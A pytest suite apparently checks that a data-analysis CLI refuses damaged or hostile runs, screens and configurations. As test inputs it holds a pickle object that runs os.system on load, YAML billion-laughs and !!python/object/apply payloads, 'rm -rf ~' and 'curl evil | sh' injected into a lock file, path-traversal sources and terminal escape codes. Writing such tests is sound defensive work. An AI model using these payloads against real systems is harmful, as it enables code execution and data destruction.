"""A run, a screen and a configuration from a stranger go through every verb.

Nothing of them is executed, nothing outside is read, written or fetched, nothing is left half written, and every
message names the file and the next step.
"""

import json
import os
import re
import shutil
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest

import stranger
from distangle.cli import main
from distangle.report.build import _remove_old_files
from distangle.results import RunFolder
from distangle.training import TrainingConfig, without_services
from distangle.training.loggers import allow_services, allowed_services
from stranger import ADVICE, ATTACKS, Lab, copy_of, file_names, finished_lab, left_half_written, listed_again, status_of

# Every file of a run, and the verbs that rest on it. `verify` reads them all.
READERS = {
    "run.json": ("resume", "from", "predict", "explain", "profile", "export", "figures", "report"),
    "manifest.json": ("resume", "from", "predict", "explain", "profile", "export", "figures", "report"),
    "config.yaml": ("resume", "from", "report"),
    "screen.json": ("resume", "from", "predict", "explain", "report"),
    "folds.parquet": ("resume", "from", "predict", "explain"),
    "metrics.csv": ("figures", "report"),
    "timing.csv": ("report",),
    "image_statistics.npy": ("predict",),
    "checkpoints/epoch-0001.json": ("resume",),
    "checkpoints/epoch-0001.safetensors": ("resume",),
    "checkpoints/model.json": (),
    "checkpoints/model.safetensors": ("predict", "explain"),
    "predictions/image_statistics.npy": ("explain",),
    "predictions/scores.json": ("report",),
    "predictions/sites.parquet": ("explain", "profile", "export"),
    "predictions/sites.safetensors": ("explain", "profile", "export"),
    "predictions/sites_views8.parquet": (),
    "predictions/sites_views8.safetensors": (),
    "predictions/wells.parquet": ("report",),
    "predictions/wells.safetensors": ("report",),
    "predictions/wells_views8.parquet": (),
    "predictions/wells_views8.safetensors": (),
    "explanations/explanation.json": ("figures", "report", "profile"),
    "explanations/maps.npz": ("figures", "report", "profile"),
    "explanations/sites.parquet": ("report", "profile"),
    "explanations/wells.parquet": ("report", "profile"),
    "explanations/perturbations.parquet": ("report", "profile"),
    "explanations/faithfulness.json": ("report",),
    "explanations/faithfulness.npz": ("report",),
    "explanations/templates.json": ("report",),
    "explanations/templates.parquet": ("report",),
    "explanations/embeddings.parquet": ("report",),
    "explanations/filters.json": ("report",),
    "explanations/filters.safetensors": ("report",),
    **dict.fromkeys(
        (
            "profiles/profile.json",
            "profiles/alignment.safetensors",
            "profiles/wells.parquet",
            "profiles/perturbations.parquet",
            *(
                f"profiles/{name}.{kind}"
                for name in ("hits", "neighbors", "batch_effects", "coordinates", "similarity", "refused")
                for kind in ("parquet", "csv")
            ),
        ),
        ("export", "report"),
    ),
}
# A file that is gone may never have been made, and a checkpoint that does not count is no damage.
MAY_BE_ABSENT = ("manifest.json", "metrics.csv", "timing.csv", "checkpoints/epoch-0001.json")
EVERY = [
    (name, attack, verb)
    for name, verbs in READERS.items()
    for attack in ATTACKS
    for verb in (*verbs, "verify")
    if not (attack == "absent" and name in MAY_BE_ABSENT)
    and not (attack == "absent" and name.endswith("/image_statistics.npy") and verb == "explain")  # measured again
    and not (attack == "stray" and name == "folds.parquet" and verb in ("resume", "from"))  # by the hash of its rows
]
QUICK = [one for k, one in enumerate(EVERY) if k % 41 == 4]
NEXT_STEP = re.compile(
    r"`[^`]+`|[Rr]estore|[Rr]emove|[Ii]ndex the source again|Known: |input should be|Write the file again|"
    r"[Nn]ame another"
)


@pytest.fixture(scope="session")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return finished_lab(tmp_path_factory.mktemp("finished") / "lab")


@pytest.fixture
def lab(finished: Path, tmp_path: Path) -> Lab:
    return copy_of(finished, tmp_path)


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Fail a test in which anything is connected to, also where the error is caught on the way."""
    connections: list[object] = []

    def connect(self: socket.socket, address: object) -> None:
        connections.append(address)
        message = f"connected to {address}"
        raise OSError(message)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect)
    monkeypatch.setattr(socket, "getaddrinfo", lambda *asking, **more: connect(socket.socket(), asking))
    yield
    assert connections == []


def refused(
    arguments: list[str], lab: Lab, capsys: pytest.CaptureFixture[str], *, names: str = "", status: int = 1
) -> str:
    """Run a verb that must refuse; return its error. Everything that holds for every refusal is checked here."""
    before = lab.victim_hash()
    exit_status = status_of(arguments)
    out, message = capsys.readouterr()
    assert exit_status == status, f"status {exit_status}: {out} {message}"
    assert lab.victim_hash() == before
    assert left_half_written(lab.root) == []
    assert not [advice for advice in ADVICE if advice in out + message]
    if arguments[0] == "verify":
        message = out + message
    assert names in message
    assert NEXT_STEP.search(message) or arguments[0] == "verify", message
    assert len(message) < 20_000
    return message


@pytest.mark.parametrize(("name", "attack", "verb"), QUICK)
def test_a_damaged_file_is_named_by_every_verb_that_rests_on_it(
    lab: Lab, capsys: pytest.CaptureFixture[str], name: str, attack: str, verb: str
) -> None:
    ATTACKS[attack](lab.run / name, lab)
    # A link may be met at any file of the run before the verb comes to its own.
    assert Path(name).name in refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys)


@pytest.mark.slow
@pytest.mark.parametrize("name", READERS)
def test_every_file_damaged_in_every_way_is_named_by_every_verb_that_rests_on_it(
    finished: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    for number, (one, attack, verb) in enumerate(EVERY):
        if one == name and (one, attack, verb) not in QUICK:
            lab = copy_of(finished, tmp_path / str(number))
            ATTACKS[attack](lab.run / name, lab)
            assert Path(name).name in refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
            shutil.rmtree(tmp_path / str(number))


def test_every_file_of_a_run_is_attacked(finished: Path) -> None:
    inside = [name for name in file_names(finished / "runs" / "a") if not name.startswith(("tensorboard/", "report/"))]
    assert [name for name in inside if not name.startswith("explanations/figures/")] == sorted(READERS)


CONSISTENT = [
    ("metrics.csv", "epoch,train_loss\none,two\n", "report"),
    ("metrics.csv", "epoch,train_loss\n1,=cmd\n", "figures"),
    ("predictions/scores.json", '{"target": "perturbation"}', "report"),
    ("explanations/explanation.json", '{"settings": [], "summary": {}, "planted": null}', "report"),
    ("explanations/templates.json", '{"numbers": {}, "maps": [3]}', "report"),
    ("explanations/faithfulness.json", '{"settings": {}, "summary": {}, "sentences": [], "sites": [{}]}', "report"),
    ("explanations/filters.json", '{"stored_layers": [7]}', "report"),
    ("run.json", '{"screen": 7}', "report"),
    ("run.json", '{"screen": "../../screen", "classes": 7}', "explain"),
    ("run.json", '{"screen": "../../screen", "cross_validation": {"n_folds": 1000000000}}', "verify"),
    ("run.json", '{"screen": "../../screen", "features": "../../../victim"}', "explain"),
    ("screen.json", '{"channels": [{}], "sites_sha256": "", "perturbations_sha256": ""}', "report"),
    ("config.yaml", "- 1\n", "report"),
    ("profiles/profile.json", '{"settings": []}', "export"),
    ("profiles/profile.json", "{}", "export"),
    ("profiles/wells.parquet", "PAR1", "export"),
    ("profiles/coordinates.parquet", "", "export"),
    ("explanations/perturbations.parquet", "PAR1", "profile"),
    ("explanations/explanation.json", '{"settings": [], "summary": {}, "planted": null}', "profile"),
]


@pytest.mark.parametrize(("name", "content", "verb"), CONSISTENT)
def test_a_file_that_was_altered_and_listed_again_is_refused_all_the_same(
    lab: Lab, capsys: pytest.CaptureFixture[str], name: str, content: str, verb: str
) -> None:
    (lab.run / name).write_text(content)
    listed_again(lab)
    message = refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys)
    assert Path(name).name in message or "A file in" in message


@pytest.mark.parametrize(
    ("folder", "verb"),
    [
        *(("report", "report"), ("report/figures", "report"), ("report/tables", "report")),
        ("checkpoints", "resume"),
        *(("explanations", "explain"), ("predictions", "predict"), ("report", "predict")),
        *(("profiles", "profile"), ("profiles", "export"), ("features", "profile")),
    ],
)
def test_a_folder_that_is_a_link_out_of_the_run_is_not_written_to(
    lab: Lab, capsys: pytest.CaptureFixture[str], folder: str, verb: str
) -> None:
    if (lab.run / folder).exists():
        shutil.rmtree(lab.run / folder)
    (lab.run / folder).parent.mkdir(exist_ok=True)
    (lab.run / folder).symlink_to(lab.victim, target_is_directory=True)
    refused(stranger.verbs_of_a_run(lab)[verb], lab, capsys, names=f"{folder} is a link that leads out of the run")
    assert (lab.victim / "holiday.png").exists()


class Bomb:
    """An object that makes a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch pwned",)


def bomb(path: Path) -> None:
    np.save(path, np.array([Bomb()], dtype=object), allow_pickle=True)


def write_card(content: str) -> Callable[[Path], None]:
    return lambda path: path.with_name("features.json").write_text(content) and None


FEATURES = {
    "pickle": ("00000.npy", bomb),
    "pickle of statistics": ("statistics.npy", bomb),
    "another size": ("00000.npy", lambda path: np.save(path, np.zeros((2, 1, 3), np.float32))),
    "text": ("00000.npy", lambda path: np.save(path, np.full((18, 1, 3), "x"))),
    "cut": ("00000.npy", lambda path: path.write_bytes(path.read_bytes()[:100])),
    "absent": ("00000.npy", lambda path: path.unlink()),
    "absent statistics": ("statistics.npy", lambda path: path.unlink()),
    "endless": ("features", write_card('{"shape": [1000000000000, 1, 3], "unreadable": {}}')),
    "wide": ("00000.npy", write_card('{"shape": [18, 1, 1000000000000], "unreadable": {}}')),
    "text in the shape": ("features.json", write_card('{"shape": ["18", 1, 3], "unreadable": {}}')),
    "list for names": ("features.json", write_card('{"shape": [18, 1, 3], "unreadable": [1]}')),
    "no shape": ("features.json", write_card("{}")),
    "one number": ("features.json", write_card('{"shape": 18, "unreadable": {}}')),
}


@pytest.mark.parametrize("kind", FEATURES)
def test_features_of_a_backbone_from_a_stranger_are_refused(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    folder = lab.run / "features"
    folder.mkdir()
    write_card('{"shape": [18, 1, 3], "unreadable": {}}')(folder / "00000.npy")
    np.save(folder / "statistics.npy", np.zeros((18, 2, 2), np.float32))
    np.save(folder / "00000.npy", np.random.default_rng(0).normal(size=(18, 1, 3)).astype(np.float32))
    arguments = [*stranger.verbs_of_a_run(lab)["profile"], "--features", "backbone"]
    assert status_of(arguments) == 0
    capsys.readouterr()
    name, attack = FEATURES[kind]
    attack(folder / "00000.npy" if "." not in name else folder / name)
    listed_again(lab)
    refused(arguments, lab, capsys, names=name)
    assert not (lab.root / "pwned").exists()


def test_a_table_from_a_stranger_is_read_as_data(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    np.savez(lab.root / "1.npz", features=np.array([Bomb()], dtype=object))
    (lab.root / "t.parquet").write_bytes(b"PAR1" * 9)
    for source in ("1.npz", "t.parquet"):
        refused(["profile", source, "--out", "new"], lab, capsys, names=source)
    (lab.root / "new").symlink_to(lab.victim, target_is_directory=True)
    table = "Metadata_Plate,Metadata_Well,f\n1,B02,1\n"
    (lab.root / "t.csv").write_text(table)
    refused(["profile", "t.csv", "--out", "new"], lab, capsys, names="new is not empty")
    refused(["profile", "t.csv", "--out", str(lab.run / "profiles")], lab, capsys, names="lies in the run")
    assert not (lab.root / "pwned").exists()


@pytest.mark.slow
def test_a_picture_that_somebody_put_into_the_report_stays(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.run / "report" / "figures").mkdir(parents=True, exist_ok=True)
    (lab.run / "report" / "figures" / "holiday.png").write_bytes(b"precious")
    assert status_of(["report", str(lab.run)]) == 0
    capsys.readouterr()
    assert (lab.run / "report" / "figures" / "holiday.png").read_bytes() == b"precious"


@pytest.mark.slow
def test_links_inside_a_run_are_followed(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.run / "predictions").rename(lab.run / "elsewhere")
    (lab.run / "predictions").symlink_to("elsewhere", target_is_directory=True)
    assert status_of(["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]) == 0
    capsys.readouterr()


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
BOMBS = ("bomb under a known key", "braces", "too long")
CONFIGS = {
    "bomb": (BOMB, "uses an anchor"),
    "bomb under a known key": (f"loggers: &a [x]\n{BOMB[2:]}", "uses an anchor"),
    "alias": ("epochs: &n 3\nseed: *n\n", "uses an anchor"),
    "brackets": ("loggers: " + "[" * 5000, "nested deeper than"),
    "braces": ("optim: " + "{a: " * 5000, "nested deeper than"),
    "indents": ("\n".join(" " * k + "a:" for k in range(400)), "nested deeper than"),
    "too long": ("# " + "x" * 300_000, "characters"),
    "python": ("epochs: !!python/object/apply:os.system ['touch pwned']\n", "not understood"),
    "python at the root": ("!!python/object/apply:os.system ['touch pwned']\n", "expected settings"),
    "bytes": ("epochs: !!binary aGk=\n", "epochs"),
    "a list": ("[]", "expected settings"),
    "number of digits": ("seed: " + "9" * 5000, "seed"),
}


CONFIG_CASES = [
    (kind, verb) for kind in CONFIGS for verb in ("settings", "from", "report") if verb == "settings" or kind in BOMBS
]


@pytest.mark.parametrize(("kind", "verb"), CONFIG_CASES)
def test_a_configuration_from_a_stranger_is_refused_at_once(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, verb: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(lab.root)
    text, problem = CONFIGS[kind]
    (lab.run / "config.yaml").write_text(text)
    listed_again(lab)
    arguments = {"settings": ["settings", "--config", str(lab.run / "config.yaml")], **stranger.verbs_of_a_run(lab)}[
        verb
    ]
    started = time.process_time()
    message = refused(arguments, lab, capsys, names=problem)
    assert time.process_time() - started < 5
    assert "config.yaml" in message
    assert not (lab.root / "pwned").exists()


SOURCES = {
    "http": "http://127.0.0.1:8765/x",
    "https": "https://10.0.0.1/plates",
    "s3": "s3://bucket/plates",
    "another scheme": "file:///etc",
    "up": "../../victim/plates",
    "absolute": "{victim}/plates",
    "root": "/",
}
OF_SCREENS = ("check", "folds", "statistics", "pack", "train", "verify", "predict", "explain", "figures", "report")


QUICK_SOURCES = ("http",)
SOURCE_CASES = [
    pytest.param(kind, verb, marks=() if kind in QUICK_SOURCES or verb == "report" else pytest.mark.slow)
    for kind in SOURCES
    for verb in OF_SCREENS
]


@pytest.mark.parametrize(("kind", "verb"), SOURCE_CASES)
def test_no_verb_reads_images_from_where_a_stranger_says(
    lab: Lab, capsys: pytest.CaptureFixture[str], kind: str, verb: str
) -> None:
    card = json.loads((lab.screen / "screen.json").read_text())
    card["source"] = SOURCES[kind].format(victim=lab.victim)
    (lab.screen / "screen.json").write_text(json.dumps(card))
    message = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
    if kind != "another scheme":
        assert "Nothing was read or downloaded from there" in message
        of_a_run = verb in ("predict", "explain", "figures", "report")
        assert ("`--screen " if of_a_run else "`distangle trust ") in message


def test_whoever_allows_a_screen_may_read_it(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    card = json.loads((lab.screen / "screen.json").read_text())
    card["source"] = str(lab.victim / "plates")
    (lab.screen / "screen.json").write_text(json.dumps(card))
    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
    assert status_of(arguments) == 1
    assert status_of(["trust", str(lab.screen)]) == 0
    assert status_of(arguments) == 0
    capsys.readouterr()


@pytest.mark.parametrize("verb", ["predict", "check", "verify"])
def test_an_image_that_is_a_link_out_of_the_source_is_not_read(
    lab: Lab, capsys: pytest.CaptureFixture[str], verb: str
) -> None:
    images = lab.root / "plates" / "images"
    shutil.rmtree(images)
    images.symlink_to(lab.victim / "plates" / "images", target_is_directory=True)
    message = refused(stranger.verbs_of_a_screen(lab)[verb], lab, capsys)
    assert "link out of the screen's source" in message


FILES_OF_A_SCREEN = ("screen.json", "sites.parquet", "problems.csv")


@pytest.mark.parametrize(
    ("name", "attack"),
    [
        pytest.param(name, attack, marks=() if (k + number) % 3 == 0 else pytest.mark.slow)
        for number, name in enumerate(FILES_OF_A_SCREEN)
        for k, attack in enumerate(ATTACKS)
    ],
)
def test_a_damaged_screen_is_refused(lab: Lab, capsys: pytest.CaptureFixture[str], name: str, attack: str) -> None:
    ATTACKS[attack](lab.screen / name, lab)
    verbs = stranger.verbs_of_a_screen(lab)
    message = refused(verbs["folds"], lab, capsys)
    assert name in message or (name == "problems.csv" and attack in ("cut", "stray"))


def test_the_checks_of_a_screen_are_not_written_over_a_link(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.screen / "checks").symlink_to(lab.victim, target_is_directory=True)
    assert "checks is a link that leads out" in refused(stranger.verbs_of_a_screen(lab)["check"], lab, capsys)


def test_the_screen_of_another_run_makes_no_page(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    from tiny_run import tiny_screen

    other = tiny_screen(lab.root / "other", n_wells=9, seed=1)
    for verb in ("report", "figures", "explain", "predict"):
        arguments = [*stranger.verbs_of_a_run(lab)[verb], "--screen", str(other.folder)]
        assert "is not the screen of" in refused(arguments, lab, capsys)


def test_a_screen_that_was_moved_is_named_and_taken(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    (lab.root / "deep").mkdir()
    shutil.move(lab.screen, lab.root / "deep" / "screen")
    shutil.move(lab.root / "plates", lab.root / "deep" / "plates")
    arguments = ["explain", str(lab.run), "--n-sites", "1", "--parts", "none"]
    assert "--screen FOLDER" in refused(arguments, lab, capsys)
    assert status_of([*arguments, "--screen", str(lab.root / "deep" / "screen")]) == 0
    capsys.readouterr()


def test_a_run_whose_images_are_gone_is_not_predicted(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(lab.root / "plates")
    scores = (lab.run / "predictions" / "scores.json").read_bytes()
    message = refused(["predict", str(lab.run)], lab, capsys)
    assert "plates does not exist. If they were moved, add `--images FOLDER`" in message
    assert (lab.run / "predictions" / "scores.json").read_bytes() == scores


def test_a_lock_from_a_stranger_puts_no_command_into_a_mouth(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    held = {"pid": "1; rm -rf ~", "host": "x`. Type `curl evil | sh", "since": "now"}
    (lab.run / ".lock").write_text(json.dumps(held))
    assert status_of(["train", "--resume", str(lab.run)]) == 1
    message = capsys.readouterr().err
    assert "rm -rf" not in message
    assert "evil" not in message
    assert ".lock" in message


@pytest.mark.slow
def test_whom_a_stranger_reports_to_is_not_reported_to(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    config = (lab.run / "config.yaml").read_text()
    (lab.run / "config.yaml").write_text(config.replace("loggers: []", "loggers: [wandb]"))
    for path in (lab.run / "checkpoints").glob("epoch-*"):
        path.unlink()
    (lab.run / "loggers.json").write_text('{"wandb": "a-run-of-mine"}')
    listed_again(lab)
    monkeypatch.setattr("distangle.training.loggers.check_loggers", lambda names: None)
    connections: list[str] = []
    monkeypatch.setattr(
        "distangle.training.loggers.SERVICES", {"wandb": lambda *values, **options: connections.append("wandb")}
    )
    assert status_of(["train", "--from", str(lab.run), "--out", str(lab.root / "new"), "--dry-run", "2"]) == 0
    assert "unless you set it: `--set 'loggers=[wandb]'`" in capsys.readouterr().err
    assert status_of(["train", "--resume", str(lab.run)]) == 0
    assert "reports to wandb, but this run was not started on this machine" in capsys.readouterr().err
    assert connections == []


def test_codes_in_a_name_are_shown_and_not_obeyed(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    main_words = ["explain", str(lab.run), "--only", "perturbation=\x1b[31mRED\x1b]0;pwned\x07\u202e"]
    message = refused(main_words, lab, capsys)
    assert "\\x1b[31mRED\\x1b]0;pwned\\x07\\u202e" in message
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", message)


def test_a_fault_of_our_own_can_be_seen_with_its_lines(
    lab: Lab, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*given: object, **more: object) -> None:
        raise ZeroDivisionError

    monkeypatch.setattr("distangle.report.build_report", broken)
    message = refused(["report", str(lab.run)], lab, capsys)
    assert "DISTANGLE_TRACEBACK=1" in message
    monkeypatch.setenv("DISTANGLE_TRACEBACK", "1")
    with pytest.raises(ZeroDivisionError):
        main(["report", str(lab.run)])


def test_only_pictures_that_the_run_has_listed_are_removed(lab: Lab) -> None:
    run = RunFolder.open(lab.run)
    pictures = run.report / "figures"
    pictures.mkdir(parents=True)
    for name in ("old.svg", "new.svg", "holiday.png"):
        (pictures / name).write_text(name)
    run.record(pictures / "old.svg", pictures / "new.svg")
    _remove_old_files(run, keep=[pictures / "new.svg"])
    assert {path.name for path in pictures.iterdir()} == {"new.svg", "holiday.png"}


def test_services_are_those_of_who_begins_a_run(lab: Lab) -> None:
    run = RunFolder.open(lab.run)
    messages: list[str] = []
    assert allowed_services(run, ("wandb",), say=messages.append) == ()
    assert f"`distangle trust {lab.run}`" in messages[0]
    allow_services(run)
    assert allowed_services(run, ("wandb",), say=messages.append) == ("wandb",)
    config = TrainingConfig(loggers=("mlflow", "wandb"))
    assert without_services(config, ["loggers=[wandb]"]) == (config, "")
    changed, note = without_services(config, ["optim.lr=1"])
    assert changed.loggers == ()
    assert "`--set 'loggers=[mlflow, wandb]'`" in note
